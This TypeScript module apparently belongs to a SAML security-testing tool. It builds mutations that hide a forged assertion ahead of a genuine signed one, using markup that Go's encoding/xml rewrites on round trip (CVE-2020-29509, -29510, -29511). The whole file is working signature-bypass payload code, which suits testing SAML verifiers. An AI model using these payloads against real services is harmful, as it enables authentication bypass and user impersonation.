/** Markup that encoding/xml of Go writes otherwise than it read it: what is forged appears only in the second reading. */

import type { Mutation } from '../protocol/types.ts';
import { insertAt, setAttribute } from '../protocol/xml-text.ts';
import { first } from './elements.ts';
import { forgedAssertion } from './victim.ts';

/** A place where Go lost something while it wrote (advisories of mattermost/xml-roundtrip-validator). */
export type Rewritten = 'element-name' | 'attribute-name' | 'declaration';

const ways: Record<Rewritten, (forged: string) => string> = {
  // Of two leading colons one is written again, and that one is then read as an empty prefix (CVE-2020-29511).
  'element-name': (forged) => forged.replace(/^</, '<::').replace(/<\/([^<]*)$/, '</::$1'),
  // The same makes a declaration of an attribute that was none (CVE-2020-29509).
  'attribute-name': (forged) => {
    const own = first(forged, 'Assertion');
    return setAttribute(forged, own, 'xmlns', 'urn:samlproof:none').replace(
      / xmlns="urn:samlproof:none"/,
      '$& ::xmlns="urn:oasis:names:tc:SAML:2.0:assertion"',
    );
  },
  // A comment in a declaration is dropped; what stood around it begins another comment, and a quotation (CVE-2020-29510).
  declaration: (forged) => `<! <<!-- -->!-->"--> " ><! ">" ${forged}>`,
};

/** A forged assertion stands before the genuine one, written so that nobody sees it until the message was read and written once. */
export function forgedOnceRewritten(way: Rewritten): Mutation {
  return {
    afterSigning: (xml, facts) =>
      insertAt(xml, first(xml, 'Assertion').start, ways[way](forgedAssertion(facts, facts.newId()))),
  };
}
